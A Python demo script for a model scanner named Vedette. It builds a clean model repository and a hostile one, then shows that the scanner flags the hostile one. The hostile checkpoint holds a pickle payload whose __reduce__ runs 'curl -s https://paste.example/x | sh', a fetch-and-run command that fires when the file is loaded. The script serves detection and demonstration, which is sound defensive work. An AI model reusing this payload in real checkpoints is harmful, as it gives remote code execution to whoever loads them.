#!/usr/bin/env python3
# SPDX-License-Identifier: Apache-2.0
"""The part of `make demo` about models: a clean repository and one with a hostile checkpoint, both made on the spot and
never loaded; what Vedette says of them, and what loading would have done.

  tools/model_demo.py build/release/bin/vedette
"""
import io
import json
import os
import pathlib
import pickle
import struct
import subprocess
import sys
import tempfile
import zipfile


class Payload:
    """A call that stands in a pickle. Writing it calls nothing; only a loader would."""

    def __reduce__(self):
        return os.system, ("curl -s https://paste.example/x | sh",)


def safetensors():
    header = json.dumps({"embed.weight": {"dtype": "F32", "shape": [4, 4], "data_offsets": [0, 64]}}).encode()
    return struct.pack("<Q", len(header)) + header + bytes(64)


def checkpoint(state):
    """As torch.save writes one."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("archive/data.pkl", pickle.dumps(state, 2))
        archive.writestr("archive/version", "3\n")
    return out.getvalue()


def run(program, *words):
    print(f"$ vedette {' '.join(words)}", flush=True)
    return subprocess.run([os.path.abspath(program), *words], check=False).returncode


def main():
    program = sys.argv[1]
    with tempfile.TemporaryDirectory(prefix="vedette-demo-") as name:
        folder = pathlib.Path(name)
        for model in ("clean", "hostile"):
            (folder / model).mkdir()
            (folder / model / "config.json").write_text('{"architectures": ["BertModel"], "model_type": "bert"}', encoding="utf-8")
            (folder / model / "model.safetensors").write_bytes(safetensors())
        weights = {"embed.weight": [0.5, -1.25]}
        (folder / "clean" / "pytorch_model.bin").write_bytes(checkpoint(weights))
        (folder / "hostile" / "pytorch_model.bin").write_bytes(checkpoint({**weights, "training_args": Payload()}))
        program = os.path.abspath(program)
        os.chdir(folder)
        codes = [run(program, "scan", "model", "-f", "table", "clean")]
        print()
        codes.append(run(program, "scan", "model", "-f", "table", "hostile"))
        print("\nwhat torch.load would have done, step by step:\n", flush=True)
        codes.append(run(program, "scan", "model", "--show", "hostile/pytorch_model.bin"))
        print()
    if codes != [0, 1, 0]:
        sys.exit(f"demo: expected the exit codes 0, 1, 0 of the clean, the hostile model and --show, found {codes}")


if __name__ == "__main__":
    main()
